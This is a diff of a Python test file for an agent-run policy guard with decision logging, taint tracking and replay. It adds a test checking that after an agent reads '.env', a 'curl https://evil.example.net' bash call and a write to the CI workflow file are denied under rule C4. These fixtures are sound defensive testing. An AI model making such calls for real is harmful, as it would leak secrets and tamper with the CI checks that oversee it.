@@ -23,11 +23,11 @@ from flows.runs import read_report
 from nodes.commands import command, shell
 from policy.errors import LogUnavailable
 from policy.events import Event
-from policy.guard import GUARD
 from policy.log import EventLog
 from policy.replay import replay
 from policy.taint import data_flow, way_to
 from policy.verify import verify
+from policy.view_spec import Table, ViewSpec
 from policy.view_text import markdown
 from tests.flows.repositories import git
 
@@ -42,6 +42,8 @@ def call(number: int, tool: str, **arguments: str) -> dict[str, object]:
 
 WRITE_42 = call(1, "write_file", path="answer.txt", content="42\n")
 LEAK = call(2, "bash", command="curl https://evil.example.net")
+READ_SECRET = call(3, "read_file", path=".env")
+CHANGE_CI = call(4, "write_file", path=".github/workflows/ci.yml", content="on: push")
 DONE = {"content": "Done."}
 
 
@@ -81,7 +83,7 @@ def test_model_calls_decisions_and_tool_calls_are_events(
     ]
     denied = log.events("r1", kind="decision")[1]
     assert "curl" in str(denied.body["question"])
-    assert denied.body["policy"] == GUARD
+    assert denied.body["policy"] == "agent-guard/1"
     assert verify(log).ok
 
 
@@ -195,12 +197,16 @@ def two_commands() -> Blueprint:
     return blueprint("two-commands", "Two commands", nodes)
 
 
-def checked() -> Blueprint:
+def table(view: ViewSpec, title: str) -> tuple[tuple[str, ...], ...]:
+    return next(p.rows for p in view.parts if isinstance(p, Table) and p.title == title)
+
+
+def checked(*tools: str) -> Blueprint:
     fix = agentic(
         "mend",
         "mend it",
         prompt=lambda ctx: ctx.results["check"].output,
-        allowed_tools=["read", "write", "shell(ls*)"],
+        allowed_tools=tools or ["read", "write", "shell(ls*)"],
     )
     steps = [step("answer", command("grep", "-qx", "42", "answer.txt"))]
     return blueprint("checked", "Check", [validate("check", "check", steps=steps, on_failure=fix)])
@@ -208,6 +214,26 @@ def checked() -> Blueprint:
 
 def of_node(log: EventLog, node: str) -> list[Event]:
     return [event for event in log.events() if event.body.get("node") == node]
+
+
+def test_what_the_guard_of_the_run_decided_is_decided_the_same_again(
+    shop: Workshop, ask: Ask, log: EventLog, model: Callable[..., str]
+) -> None:
+    """The guard remembers the secret that was read, when it ran and when it is asked again."""
+    replies = (READ_SECRET, LEAK, CHANGE_CI, WRITE_42, DONE)
+    run_blueprint(ask(checked("shell", "read", "write"), model=model(*replies)), shop, run_id="r1")
+    decisions = log.events("r1", kind="decision")
+    assert [event.body["verdict"] for event in decisions] == [
+        "allowed",
+        "denied",
+        "denied",
+        "allowed",
+    ]
+    assert decisions[2].body["rule"] == "C4"
+    done = replay(log.history("r1"), POLICIES)
+    assert done.differences == ()
+    shown = [row[1] for row in table(shop.view("r1"), "Decisions") if row[3] == "C4"]
+    assert shown == ["bash", "write_file"]
 
 
 def test_the_files_that_are_kept_are_events(shop: Workshop, ask: Ask, log: EventLog) -> None:
